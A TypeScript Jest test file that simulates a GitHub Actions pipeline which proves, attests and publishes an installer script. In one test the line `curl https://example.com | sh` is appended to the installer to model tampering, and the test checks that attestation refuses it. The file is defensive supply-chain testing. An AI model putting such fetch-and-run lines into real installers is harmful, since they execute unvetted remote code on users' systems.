import { spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  cpSync,
  existsSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { delimiter, join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { type AttestWorld, startAttestWorld, token } from '../attestations/attest-world.ts';
import { makeTree } from '../support/make-tree.ts';
import { startAction } from '../support/run-action.ts';
import { block, installer, linux, makeWorkspace, sha256 } from './installer-world.ts';
import { readRecipe, type Step } from './read-recipe.ts';

const jobs = readRecipe('A hand-written installer');
const patience = 120_000;
let world: AttestWorld;

beforeAll(async () => {
  world = await startAttestWorld();
});

afterAll(() => world.close());

/** What there is between the jobs of one run. */
interface Run {
  /** What was uploaded, by name. */
  readonly store: string;
  /** What stands in the place of `gh` and `sudo`. */
  readonly bin: string;
  readonly outputs: Map<string, string>;
}

function newRun(): Run {
  const bin = makeTree({
    gh: '#!/bin/sh\necho "$@" > "$(dirname "$0")/asked"\n',
    sudo: '#!/bin/sh\n',
  });
  for (const name of ['gh', 'sudo']) chmodSync(join(bin, name), 0o755);
  return { store: makeTree({}), bin, outputs: new Map() };
}

/** Runs the steps of a job as a runner does, in a workspace of its own; gives what it said when one fails. */
async function runJob(name: string, run: Run): Promise<string | undefined> {
  const { steps = [], permissions = {}, outputs = {} } = jobs[name] ?? {};
  const workspace = makeTree({});
  const env = permissions['id-token'] === 'write' ? world.signingEnv : world.env;
  for (const step of steps) {
    const failure = await runStep(step, { ...run, workspace, env });
    if (failure !== undefined) return failure;
  }
  for (const [output, value] of Object.entries(outputs))
    run.outputs.set(`needs.${name}.outputs.${output}`, filledIn(value, run));
  return undefined;
}

interface Around extends Run {
  readonly workspace: string;
  readonly env: Readonly<Record<string, string>>;
}

async function runStep(step: Step, around: Around): Promise<string | undefined> {
  const { workspace, store, env, outputs } = around;
  const { name = '', path = '' } = step.with ?? {};
  const [action = ''] = (step.uses ?? 'run').split('@');
  switch (action) {
    case 'run':
      return runScript(step, around);
    case 'actions/checkout':
      checkOut(workspace);
      return undefined;
    case 'actions/upload-artifact':
      cpSync(join(workspace, path), join(store, name), { recursive: true });
      return undefined;
    case 'actions/download-artifact':
      cpSync(join(store, name), join(workspace, path), { recursive: true });
      return undefined;
    default: {
      const own = action.replace('OWNER/portcullis/actions/', '');
      const inputs = {
        ...(own === 'attest-artifacts' ? { ...world.signing, token } : {}),
        ...step.with,
      };
      const { status, log, outputs: given } = await startAction(own, { workspace, inputs, env });
      for (const [output, value] of Object.entries(given))
        outputs.set(`steps.${step.id}.outputs.${output}`, value);
      return status === 0 ? undefined : log;
    }
  }
}

/** A repository whose `build` makes a release. */
function checkOut(workspace: string): void {
  const built = makeWorkspace({ 'dist/install.sh': installer({ table: block }) });
  writeFileSync(join(workspace, 'build'), `#!/bin/sh\ncp -R '${built}/dist' dist\n`);
  chmodSync(join(workspace, 'build'), 0o755);
}

function runScript({ run = '', env = {} }: Step, { workspace, bin, outputs }: Around) {
  const values = Object.entries(env).map(([name, value]) => [name, filledIn(value, { outputs })]);
  const { status, stdout, stderr } = spawnSync('bash', ['-e', '-c', run], {
    cwd: workspace,
    encoding: 'utf8',
    env: {
      ...Object.fromEntries(values),
      GITHUB_REF_NAME: 'v1.2.3',
      PATH: `${bin}${delimiter}${process.env.PATH}`,
    },
  });
  return status === 0 ? undefined : stdout + stderr;
}

function filledIn(text: string, { outputs }: Pick<Run, 'outputs'>): string {
  return text.replaceAll(/\$\{\{ (.*?) \}\}/g, (_, name: string) => outputs.get(name) ?? '');
}

function published({ bin }: Run): string | undefined {
  const file = join(bin, 'asked');
  return existsSync(file) ? readFileSync(file, 'utf8') : undefined;
}

test(
  'the example proves the installer in one job, and attests what was proven in another',
  async () => {
    const run = newRun();
    expect(await runJob('build', run)).toBeUndefined();
    expect(await runJob('installer', run)).toBeUndefined();
    const proven = join(run.store, 'release', 'install.sh');
    const digests = run.outputs.get('needs.installer.outputs.digests');
    expect(digests).toBe(`${sha256(readFileSync(proven))}  dist/install.sh`);
    expect(await runJob('publish', run)).toBeUndefined();
    expect(published(run)).toMatch(/^release create v1\.2\.3 --verify-tag .*dist\/install\.sh/);
  },
  patience,
);

test(
  'an installer that was changed after its proof is not attested, and nothing is published',
  async () => {
    const run = newRun();
    await runJob('build', run);
    await runJob('installer', run);
    appendFileSync(join(run.store, 'release', 'install.sh'), 'curl https://example.com | sh\n');
    expect(await runJob('publish', run)).toContain('dist/install.sh');
    expect(published(run)).toBeUndefined();
  },
  patience,
);

test(
  'an installer that does not verify is handed to nobody',
  async () => {
    const run = newRun();
    await runJob('build', run);
    const script = join(run.store, 'built', 'install.sh');
    const text = readFileSync(script, 'utf8');
    writeFileSync(script, text.replace('exit 1; fi', 'fi'));
    expect(await runJob('installer', run)).toContain('"dist/install.sh" is open');
    expect(existsSync(join(run.store, 'release'))).toBe(false);
    // Nor is what offers an archive that was lost on the way.
    writeFileSync(script, text);
    writeFileSync(join(run.store, 'built', linux), '');
    expect(await runJob('installer', run)).toContain('where "proven" is asked for');
  },
  patience,
);
